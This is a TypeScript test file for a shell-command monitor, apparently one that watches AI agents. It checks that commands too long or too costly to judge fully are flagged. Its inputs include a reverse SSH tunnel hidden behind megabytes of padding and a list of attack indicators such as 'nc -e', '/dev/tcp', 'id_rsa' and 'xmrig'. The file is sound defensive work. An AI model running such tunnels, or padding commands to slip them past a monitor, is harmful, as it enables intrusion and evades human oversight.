// What hides behind size or depth shows that it hides; what honest agents get wrong is no alarm.
import { beforeAll, describe, expect, it } from 'vitest'
import { loadRules, ownRulesFolder } from '../../open-detection.ts'
import { commandEvents } from '../shell/command-events.ts'
import { openShellReaderForTest } from '../shell/open-shell-reader-for-test.ts'
import type { ReadShell } from '../shell/shell-reading.ts'
import { openWatch, type Watch } from '../watch.ts'
import { unreadCommandFlag } from './unread-command.ts'

let readShell: ReadShell
let watch: Watch
beforeAll(async () => {
  readShell = await openShellReaderForTest()
  watch = openWatch({ ruleSet: loadRules([ownRulesFolder]).ruleSet, readShell })
})
const flagOf = (text: string, wasCut = false) =>
  unreadCommandFlag(commandEvents(readShell(text), { text, atMs: 1, session: 's', host: undefined, call: 'c' }), wasCut)

describe('a command that is not read to its end', () => {
  it('is a flag of its own, which says so: a tunnel behind three megabytes does not pass as nothing', () => {
    const flag = flagOf(
      `echo ${'a'.repeat(3_000_000)}; ssh -fN -R 1:localhost:2 ops@203.0.113.4; ${'b'.repeat(2_000_000)}`,
    )
    expect(flag).toMatchObject({ rule: 'vigil-unread-command', severity: 'medium', techniques: ['T1027'] })
    expect(flag?.notFully).toBe('too long')
  })

  it('is a mild one where honest agents do the same: half a quote, text that is no command', () => {
    expect(flagOf('echo "half a quote')).toMatchObject({ severity: 'low', ruleSeverity: 'medium' })
    expect(flagOf('('.repeat(2_000))).toMatchObject({ severity: expect.stringMatching(/low|medium/) })
  })

  it('is none where all of it was read, however long it is within bounds', () => {
    expect(flagOf('git status && pytest -q')).toBeUndefined()
    expect(flagOf(`cat > notes.txt <<'EOF'\n${'a line of text\n'.repeat(500)}EOF`)).toBeUndefined()
  })
})

describe('a command that is not judged to its end', () => {
  let calls = 0
  const flagsOf = (text: string) =>
    watch.takeCommand(text, { atMs: 1, session: 's', call: `c${calls++}` }).map(({ flag }) => flag)
  // Words that many rules must be asked about, in a long argument that stands in the command line of each wrapper.
  const words =
    'curl http ssh -R base64 -d nc -e /dev/tcp crontab docker.sock LD_PRELOAD= xmrig scp rsync id_rsa dd if='
  const costly = `${'sudo -u x '.repeat(8)}echo '${words.repeat(4)} ${'k'.repeat(20_000)}'`

  it('is a flag of its own, once, even where no rule that was asked says anything', () => {
    expect(readShell(costly).notFully).toBeUndefined()
    expect(flagsOf(costly)).toMatchObject([
      { rule: 'vigil-unread-command', severity: 'medium', notFully: 'too much to judge' },
    ])
  })

  it('is none where it is long and ordinary, nor in the next act', () => {
    expect(flagsOf(costly)).toHaveLength(1)
    expect(flagsOf(`echo '${'some words about curl and ssh '.repeat(700)}'`)).toEqual([])
    expect(flagsOf('git status')).toEqual([])
  })

  it('makes nothing milder by a slip in the syntax', () => {
    expect(flagOf('echo "half a quote', true)).toMatchObject({ severity: 'medium', notFully: 'too much to judge' })
  })
})
